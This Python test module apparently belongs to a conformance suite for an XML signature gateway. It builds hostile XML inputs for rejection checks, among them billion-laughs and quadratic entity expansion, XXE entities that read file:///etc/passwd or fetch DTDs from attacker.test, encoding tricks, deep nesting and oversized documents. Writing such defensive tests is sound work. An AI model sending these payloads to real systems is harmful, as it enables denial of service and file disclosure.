"""Documents that cost much or bring something in: entities, depth, numbers, padding.

They follow the ideas of defusedxml's collection of hostile files and are written anew.
"""

from __future__ import annotations

import re

from gateway.eds.codes import Code
from tests.conformance.eds.attacks.attack import Attack
from tests.conformance.eds.attacks.enveloped import Change, after, replaced

_MEGABYTE = 2**20


def _entity(subset: str, content: str = "&a;") -> Change:
    """A document type before the honest document, its entity in a field."""

    def change(data: bytes) -> bytes:
        text = re.sub(rb"<\?xml[^>]*\?>", b"", data).decode()
        return f"<!DOCTYPE сұраным {subset}>{text.replace('850101100012', content)}".encode()

    return change


_LAUGHS = "[<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9)) + "]"
_QUADRATIC = f"[<!ENTITY a '{'x' * 50_000}'>]"

DOCUMENTS = (
    Attack("entity-of-laughs", Code.XML_DOCTYPE, _entity(_LAUGHS, "&a9;")),
    Attack("entity-quadratic", Code.XML_DOCTYPE, _entity(_QUADRATIC, "&a;" * 40_000)),
    Attack("entity-in-a-circle", Code.XML_DOCTYPE, _entity("[<!ENTITY a '&b;'><!ENTITY b '&a;'>]")),
    Attack("entity-of-a-file", Code.XML_DOCTYPE, _entity("[<!ENTITY a SYSTEM 'file:///etc/passwd'>]")),
    Attack("entity-of-an-address", Code.XML_DOCTYPE, _entity("[<!ENTITY a SYSTEM 'http://attacker.test/'>]")),
    Attack(
        "entity-of-a-parameter",
        Code.XML_DOCTYPE,
        _entity("[<!ENTITY % p SYSTEM 'http://attacker.test/x.dtd'> %p;]", "1"),
    ),
    Attack("doctype-outside", Code.XML_DOCTYPE, _entity("SYSTEM 'http://attacker.test/x.dtd'", "1")),
    Attack("doctype-with-default-attributes", Code.XML_DOCTYPE, _entity("[<!ATTLIST сұраным sum CDATA '9999'>]", "1")),
    Attack(
        "doctype-behind-a-comment",
        Code.XML_DOCTYPE,
        lambda data: b"<!-- " + b"x" * 9000 + b" -->" + _entity("[]")(data),
    ),
    Attack("doctype-in-small-letters", Code.XML_DOCTYPE, lambda data: b"<!doctype a>" + data),
    Attack("entity-that-nobody-declared", Code.XML_MALFORMED, replaced(b"850101100012", b"&iin;")),
    Attack("encoding-utf-7", Code.XML_ENCODING, replaced(b'encoding="utf-8"', b'encoding="UTF-7"')),
    Attack("encoding-utf-16", Code.XML_ENCODING, lambda data: data.decode().encode("utf-16")),
    Attack("encoding-ebcdic", Code.XML_ENCODING, replaced(b'encoding="utf-8"', b'encoding="cp037"')),
    Attack("document-two-roots", Code.XML_MALFORMED, lambda data: data + b"<evil/>"),
    Attack("document-with-nul", Code.XML_MALFORMED, replaced(b"850101", b"850\x00101")),
    Attack("document-declared-twice", Code.XML_MALFORMED, lambda data: b"<a/>" + data),
    Attack("deep-as-a-well", Code.XML_TOO_COMPLEX, replaced(b"<sum>", b"<x>" * 200 + b"</x>" * 200 + b"<sum>")),
    Attack("deeper-than-a-well", Code.XML_MALFORMED, replaced(b"<sum>", b"<x>" * 40_000 + b"</x>" * 40_000 + b"<sum>")),
    Attack("elements-by-the-hundred-thousand", Code.XML_TOO_COMPLEX, replaced(b"<sum>", b"<x/>" * 500_000 + b"<sum>")),
    Attack(
        "attributes-by-the-million",
        Code.XML_TOO_COMPLEX,
        replaced(
            b"<sum>", (b"<x " + b" ".join(b'a%d=""' % number for number in range(60)) + b"/>") * 40_000 + b"<sum>"
        ),
    ),
    Attack(
        "attributes-ten-thousand-of-one-element",
        Code.XML_TOO_COMPLEX,
        replaced(b"<sum>", b"<x " + b" ".join(b'a%d=""' % number for number in range(10_000)) + b"/><sum>"),
    ),
    Attack(
        "namespaces-in-scope-of-everything",
        Code.XML_TOO_COMPLEX,
        replaced(
            b"<sum>",
            b"<x "
            + b" ".join(b'xmlns:a%d="urn:%d"' % (number, number) for number in range(400))
            + b">"
            + b"<y/>" * 20_000
            + b"</x><sum>",
        ),
    ),
    Attack("references-by-the-million", Code.XML_TOO_COMPLEX, replaced(b"<sum>", b"&lt;" * 4_000_000 + b"<sum>")),
    Attack("document-of-21-megabytes", Code.XML_TOO_LARGE, replaced(b"<sum>", b"<sum>" + b"9" * 21 * _MEGABYTE)),
    *(
        Attack(f"base64-padded-in-{what}-with-{how}", code, after(mark, pad))
        for what, mark in {
            "digest": b"<ds:DigestValue>",
            "value": b"<ds:SignatureValue>",
            "certificate": b"<ds:X509Certificate>",
        }.items()
        for how, code, pad in (
            ("12-megabytes-of-space", Code.XML_TOO_COMPLEX, b" \n" * 6 * _MEGABYTE),
            ("12-megabytes-of-references", Code.XML_TOO_COMPLEX, b"&#10;" * 2 * _MEGABYTE + b" "),
            ("a-megabyte-of-letters", Code.SIGNATURE_FORM, b"A" * _MEGABYTE),
            ("a-word", Code.SIGNATURE_FORM, b"%%%"),
        )
    ),
)
